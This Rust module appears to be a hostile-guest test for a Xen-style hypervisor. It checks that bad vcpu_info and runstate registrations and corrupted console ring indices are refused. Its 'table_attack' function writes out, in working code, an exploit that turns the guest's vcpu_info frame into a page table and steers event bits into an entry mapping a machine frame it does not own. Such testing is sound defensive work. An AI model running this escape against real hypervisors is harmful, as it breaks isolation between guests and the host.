//! Attacks on the areas a guest registers for the hypervisor to write (`vcpu_op`
//! `register_vcpu_info` and `register_runstate_memory_area`) and on the console ring's
//! indices (work package "vcpuop").
//!
//! Survivable ([`run`], in the suite): a `vcpu_info` at a page-crossing or misaligned
//! offset, on its page tables (the L4 and the window-L3), on a frame that is not its own,
//! for a vCPU past its limit; a runstate area in the hypervisor's window or across the
//! canonical hole (refused), and one over the read-only view of its own L4 (accepted as
//! Xen accepts any guest address, but every write at a switch must fault harmlessly: the
//! L4 must not change); console ring indices more than a ring apart (nothing may be read
//! or consumed).
//!
//! Fatal ([`table_attack`], `attack=vcpu_info_table`): the XSA-shaped one. The `vcpu_info`
//! moves into a spare frame of its own, which the guest then zeroes, pins as an L1 and links
//! into an L2; the hypervisor's later writes of `evtchn_upcall_pending` and
//! `evtchn_pending_sel` (which the guest steers by sending on ports of chosen words) become
//! page-table entries that map machine frames it does not own. The hypervisor must keep the
//! frame's writable type for as long as the `vcpu_info` lives there, so the pin and the link
//! are refused and the domain powers off. This module must never leave a registration that
//! could disturb the rest of the suite (the suite's registrations all fail, or name an area
//! it unregisters).

use core::ptr;

use guest_rt::abi::hypercall::{Hypercall, MmuUpdateCmd, MmuextCmd, ShutdownReason, VcpuOp};
use guest_rt::abi::ids::{DomId, EvtchnPort, Mfn, VcpuId, PAGE_SIZE};
use guest_rt::abi::mmu::{MmuUpdate, MmuextOp, UVMF_INVLPG, UVMF_LOCAL};
use guest_rt::abi::vcpu::{VcpuRegisterMemoryArea, VcpuRegisterVcpuInfo};
use guest_rt::hypercall::{hypercall3, hypercall4, sched_yield, shutdown};
use guest_rt::layout::{self, PTE_PRESENT, PTE_USER, PTE_WRITABLE};
use guest_rt::ring::ConsoleRing;
use guest_rt::{evtchn, println};

use crate::targets::{Targets, HYPERVISOR_IMAGE};
use crate::verdict::{Outcome, Tally};

/// `DOMID_SELF` as a register argument.
const SELF: u64 = DomId::SELF.0 as u64;
/// EFAULT, the errno of an area the guest cannot name.
const EFAULT: u64 = 14;
/// The L2 slot the fatal attack links the frame into (as `shared_info`'s: 512 MiB above the
/// image) and the L3 entry over the image.
const HOOK_SLOT: usize = 256;
const IMAGE_L3_SLOT: usize = 510;
/// The machine frame the steered entry maps (not the guest's: low memory).
const STOLEN_FRAME: u64 = 1;

fn register_vcpu_info(id: u32, mfn: Mfn, offset: u32) -> i64 {
    let mut arg = VcpuRegisterVcpuInfo { mfn, offset, rsvd: 0 };
    // SAFETY: the hypervisor reads the argument on our stack.
    unsafe { hypercall3(Hypercall::VcpuOp, VcpuOp::RegisterVcpuInfo.raw().into(), id.into(), &raw mut arg as u64) }
}

fn register_runstate(addr: u64) -> i64 {
    let mut arg = VcpuRegisterMemoryArea { addr };
    // SAFETY: the hypervisor reads the argument on our stack; what it writes at `addr`
    // lands in guest memory of ours or faults.
    unsafe { hypercall3(Hypercall::VcpuOp, VcpuOp::RegisterRunstateMemoryArea.raw().into(), 0, &raw mut arg as u64) }
}

/// The survivable attacks.
pub fn run(tally: &mut Tally, targets: &Targets) {
    let own = targets.spare;
    let refused = [
        (own, 4072, "at a page-crossing offset (4072)"),
        (own, 4092, "at a page-crossing offset (4092)"),
        (own, 20, "at a misaligned offset (20)"),
        (targets.l4.mfn, 0, "on its L4"),
        (targets.window_l3.mfn, 64, "on its window-L3"),
        (HYPERVISOR_IMAGE, 0, "on the hypervisor's image"),
        (Mfn(1 << 39), 0, "on a frame no machine has"),
    ];
    for (mfn, offset, what) in refused {
        let outcome = Outcome::of_call(register_vcpu_info(0, mfn, offset));
        tally.record(format_args!("register vCPU 0's vcpu_info {what} (mfn {:#x})", mfn.0), outcome);
    }
    let outcome = Outcome::of_call(register_vcpu_info(1, own, 0));
    tally.record(format_args!("register the vcpu_info of vCPU 1, past its limit of 1"), outcome);

    for (addr, what) in [
        (0xFFFF_FFFF_FC00_0000, "in the hypervisor's window"),
        (0xFFFF_8000_0000_0000, "in Xen's reserved slots"),
        (0x0000_7FFF_FFFF_FFF0, "across the canonical hole"),
    ] {
        tally.record(format_args!("register a runstate area {what} ({addr:#x})"), Outcome::of_call(register_runstate(addr)));
    }
    runstate_over_l4(tally, targets);
    ring_indices(tally);
}

/// A runstate area over the read-only view of its L4: the writes at each switch fault in the
/// hypervisor's copy and change nothing.
fn runstate_over_l4(tally: &mut Tally, targets: &Targets) {
    let before: [u64; 6] = core::array::from_fn(|i| targets.l4.entry(i));
    let registered = register_runstate(targets.l4.va());
    for _ in 0..50 {
        let _ = sched_yield();
    }
    let after: [u64; 6] = core::array::from_fn(|i| targets.l4.entry(i));
    let undone = register_runstate(0);
    let outcome = if registered < 0 || (before == after && undone == 0) {
        Outcome::Refused { errno: if registered < 0 { registered.unsigned_abs() } else { EFAULT } }
    } else {
        Outcome::Succeeded
    };
    tally.record(format_args!("runstate area over its read-only L4 view, 50 yields (the L4's first entries unchanged: {})", before == after), outcome);
}

/// Console ring indices more than a ring apart: the hypervisor must consume nothing.
fn ring_indices(tally: &mut Tally) {
    let Some(ring) = ConsoleRing::get() else {
        tally.record(format_args!("console ring indices past the ring"), Outcome::NotPrepared { step: "find the console ring", errno: 0 });
        return;
    };
    let page = ring.page();
    let cons_at = (page + 3080) as *mut u32;
    let prod_at = (page + 3084) as *mut u32;
    // SAFETY: the ring page is the guest's, mapped in the initial mapping; the hypervisor
    // reads these indices concurrently, and writes out_cons only after a valid drain.
    let cons = unsafe { cons_at.read_volatile() };
    for (prod, what) in [(cons.wrapping_add(4096 + 7), "4103 bytes ahead"), (cons.wrapping_sub(1), "behind the consumer"), (cons ^ 0x8000_0000, "2^31 apart")] {
        // SAFETY: as above.
        unsafe { prod_at.write_volatile(prod) };
        let _ = evtchn::send(ring.port());
        let _ = sched_yield();
        // SAFETY: as above.
        let now = unsafe { cons_at.read_volatile() };
        let outcome = if now == cons { Outcome::Refused { errno: 0 } } else { Outcome::Succeeded };
        tally.record(format_args!("console ring out_prod {what} (out_cons {cons:#x}, after: {now:#x})"), outcome);
    }
    // SAFETY: as above: the ring is empty again.
    unsafe { prod_at.write_volatile(cons) };
}

/// The fatal attack: the frame under its `vcpu_info` made an L1 whose entries it steers.
pub fn table_attack(targets: &Targets) -> ! {
    println!("hostile: attack vcpu_info_table: move vCPU 0's vcpu_info into a frame, zero it, pin it as an L1, link it, steer its entries with events");
    let frame = targets.spare;
    let registered = register_vcpu_info(0, frame, 0);
    if registered < 0 {
        println!("hostile: attack vcpu_info_table: FAILED registering the vcpu_info ({registered})");
        shutdown(ShutdownReason::Crash);
    }
    // Zeroed through the hole (the registration wrote the old vcpu_info and marked all
    // pending), then unmapped: a frame with no mapping and valid (empty) entries.
    let zeroed = map_hole(targets, layout::kernel_rw_pte(frame.address()));
    if zeroed == 0 {
        // SAFETY: the hole maps the frame writable now; nothing of the program lives there.
        unsafe { ptr::write_bytes(targets.hole as *mut u8, 0, PAGE_SIZE as usize) };
    }
    let unmapped = map_hole(targets, 0);
    let pin = extended(MmuextOp::with_mfn(MmuextCmd::PinL1Table, frame));
    let Some(l2) = targets.window_l3.next_table(IMAGE_L3_SLOT) else {
        println!("hostile: attack vcpu_info_table: FAILED finding the boot L2");
        shutdown(ShutdownReason::Crash);
    };
    let link = MmuUpdate::new(MmuUpdateCmd::NormalPtUpdate, l2.entry_address(HOOK_SLOT), frame.address() | PTE_PRESENT | PTE_WRITABLE | PTE_USER);
    let linked = update_one(link);
    if zeroed < 0 || unmapped < 0 {
        println!("hostile: attack vcpu_info_table: FAILED preparing the frame ({zeroed}, {unmapped})");
        shutdown(ShutdownReason::Crash);
    }
    if pin < 0 && linked < 0 {
        println!("hostile: attack vcpu_info_table: refused (pin errno {}, link errno {})", pin.unsigned_abs(), linked.unsigned_abs());
        shutdown(ShutdownReason::Poweroff);
    }
    println!("hostile: attack vcpu_info_table: SUCCEEDED (BUG): pin returned {pin}, linking it into L2 slot {HOOK_SLOT} returned {linked}");
    if linked < 0 {
        shutdown(ShutdownReason::Crash);
    }
    // Entry 1 is evtchn_pending_sel: bit w is set by an event on a port of word w. Wanted:
    // present, user, frame STOLEN_FRAME.
    let wanted = PTE_PRESENT | PTE_USER | (STOLEN_FRAME << 12);
    let highest = 63 - wanted.leading_zeros();
    let mut ports = [EvtchnPort(0); 64];
    let mut port = EvtchnPort(0);
    while port.0 < highest * 64 + 1 {
        match evtchn::bind_ipi(VcpuId(0)) {
            Ok(p) => {
                port = p;
                ports[(p.0 / 64) as usize].0 = p.0;
            }
            Err(error) => {
                println!("hostile: attack vcpu_info_table: binding ports failed ({error:?})");
                shutdown(ShutdownReason::Crash);
            }
        }
    }
    for bit in (0..64).filter(|b| wanted >> b & 1 != 0) {
        let _ = evtchn::send(ports[bit as usize]);
    }
    let page = layout::VIRT_BASE + ((HOOK_SLOT as u64) << 21) + PAGE_SIZE;
    // SAFETY: whatever entry 1 of the linked frame holds now maps `page`, or the read faults
    // and the domain dies; only a read, of one word.
    let word = unsafe { ptr::read_volatile(page as *const u64) };
    println!("hostile: attack vcpu_info_table: SUCCEEDED (BUG): events made entry 1 of mfn {:#x} map mfn {STOLEN_FRAME:#x}; read {word:#018x} there", frame.0);
    shutdown(ShutdownReason::Crash)
}

/// `update_va_mapping` of the hole to `pte`, flushed locally; rax after it.
fn map_hole(targets: &Targets, pte: u64) -> i64 {
    // SAFETY: the program uses the hole for nothing but these attacks.
    unsafe { hypercall3(Hypercall::UpdateVaMapping, targets.hole, pte, UVMF_INVLPG | UVMF_LOCAL) }
}

/// One `mmuext_op`; rax after it.
fn extended(op: MmuextOp) -> i64 {
    let mut done = 0u32;
    // SAFETY: a pin of a frame the program does not use changes no mapping.
    unsafe { hypercall4(Hypercall::MmuextOp, &raw const op as u64, 1, &raw mut done as u64, SELF) }
}

/// One `mmu_update` request; rax after it.
fn update_one(request: MmuUpdate) -> i64 {
    let mut done = 0u32;
    // SAFETY: the request links a table into an L2 slot the program never uses.
    unsafe { hypercall4(Hypercall::MmuUpdate, &raw const request as u64, 1, &raw mut done as u64, SELF) }
}

/// A stack for vCPU 1 of [`alias_attack`]: it only blocks.
static ALIAS_STACK: guest_rt::smp::VcpuStack<4096> = guest_rt::smp::VcpuStack::new();

extern "C" fn block_forever(_: u64) -> ! {
    loop {
        let _ = guest_rt::hypercall::sched_block();
    }
}

/// `attack=vcpu_info_alias` (two vCPUs): vCPU 1's `vcpu_info` onto vCPU 0's slot in the
/// shared-info frame, vCPU 0's onto slot 5 of it, then events for both and vCPU 1 started.
/// Xen accepts both (a guest may alias its own areas; only it is confused): what must hold
/// is that the hypervisor writes nowhere else and that the frame's references balance when
/// the domain is destroyed (the case checks that nothing leaks).
pub fn alias_attack(targets: &Targets) -> ! {
    println!("hostile: attack vcpu_info_alias: vCPU 1's vcpu_info onto vCPU 0's slot of shared info, vCPU 0's onto slot 5");
    let one = register_vcpu_info(1, targets.shared_info, 0);
    let zero = register_vcpu_info(0, targets.shared_info, 5 * 64);
    let again = register_vcpu_info(1, targets.spare, 0);
    let mut sent = 0;
    for vcpu in [0, 1] {
        if let Ok(port) = evtchn::bind_ipi(VcpuId(vcpu)) {
            sent += u32::from(evtchn::send(port).is_ok());
        }
    }
    let started = guest_rt::smp::start(VcpuId(1), block_forever, 0, &ALIAS_STACK);
    for _ in 0..20 {
        let _ = sched_yield();
    }
    println!(
        "hostile: attack vcpu_info_alias: vCPU 1 onto slot 0: {one}, vCPU 0 onto slot 5: {zero}, vCPU 1 again: {again}; {sent} IPIs sent; vCPU 1 started: {}",
        started.is_ok()
    );
    shutdown(ShutdownReason::Poweroff)
}
